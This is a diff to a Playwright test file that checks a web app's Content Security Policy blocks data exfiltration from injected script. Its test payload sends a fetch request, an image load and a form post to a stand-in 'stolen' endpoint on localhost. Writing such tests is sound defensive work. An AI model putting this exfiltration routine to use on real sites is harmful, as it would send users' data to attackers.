@@ -58,10 +58,6 @@ SINKS = """
 """
 EXFILTRATION = """
     async (where) => {
-        const refused = [];
-        addEventListener('securitypolicyviolation', ({disposition, effectiveDirective}) => {
-            if (disposition === 'enforce') refused.push(effectiveDirective);
-        });
         await fetch(where).catch(() => {});
         const image = new Image();
         image.src = where;
@@ -69,9 +65,7 @@ EXFILTRATION = """
         const form = document.createElement('form');
         Object.assign(form, {action: where, method: 'post'});
         document.body.append(form);
-        form.submit();
-        while (refused.length < 3) await new Promise((resolve) => { setTimeout(resolve, 20); });
-        return refused.sort();
+        setTimeout(() => form.submit());
     }
 """
 
@@ -181,11 +175,21 @@ def test_text_turned_into_markup_or_code_by_script_is_refused(
 
 @pytest.mark.expects_violations
 def test_script_that_runs_all_the_same_cannot_send_anything_elsewhere(
-    page: Page, alice: Person
+    server: Gatehouse, page: Page, alice: Person, console: Console
 ) -> None:
     """Requests, images and forms stay on our origin, whoever asks for them."""
     steps.sign_in(page, alice)
 
-    refused = page.evaluate(EXFILTRATION, "http://127.0.0.1:9/stolen")
+    page.evaluate(EXFILTRATION, "http://127.0.0.1:9/stolen")
 
-    assert refused == ["connect-src", "form-action", "img-src"]
+    wanted = {"connect-src", "form-action", "img-src"}
+    with page.expect_console_message(lambda _: wanted <= refused(console)):
+        page.evaluate("setTimeout(() => console.log('a last word'), 100)")
+    assert refused(console) == wanted
+    assert page.url == f"{server.url}/notes"
+
+
+def refused(console: Console) -> set[str]:
+    """The directives that stopped something."""
+    enforced = [v for v in console.csp_violations if v["disposition"] == "enforce"]
+    return {violation["directive"] for violation in enforced}
